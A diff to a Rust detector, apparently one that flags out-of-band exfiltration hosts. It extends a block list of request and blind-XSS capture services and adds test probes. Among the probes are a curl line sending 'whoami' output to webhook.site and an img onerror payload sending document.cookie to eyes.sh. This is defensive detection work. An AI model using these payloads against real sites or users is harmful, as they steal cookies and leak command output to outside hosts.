@@ -91,6 +91,11 @@ pub(crate) const OUT_OF_BAND: &[&str] = &[
     "bxss.me",
     "canarytokens.com",
     "requestbin.net",
+    // Request and blind-XSS capture services that exploits send data to.
+    "webhook.site",
+    "requestcatcher.com",
+    "postb.in",
+    "eyes.sh",
 ];
 
 /// Top-level labels that make a URL's user name read as a host (`http://bank.com@evil.example/`).
@@ -992,6 +997,7 @@ mod tests {
             "https://john.doe@example.com/",
             "https://a@b.com@",
             "see oastify.community and interact.shop",
+            "mywebhook.site.example.com and keyes.shop",
             "http://example.com/img\\icon@2x.png",
         ] {
             assert_eq!(rule(b), None, "false positive on {b}");
@@ -1012,6 +1018,8 @@ mod tests {
         for probe in [
             "http://x1y2.oastify.com/a",
             "abc.burpcollaborator.net",
+            "curl https://webhook.site/6b1f0c2e-1d3a?d=$(whoami)",
+            "<img src=x onerror=fetch('//x.eyes.sh/'+document.cookie)>",
             "nslookup q.interact.sh",
             "\\\\z.dnslog.cn\\a",
         ] {
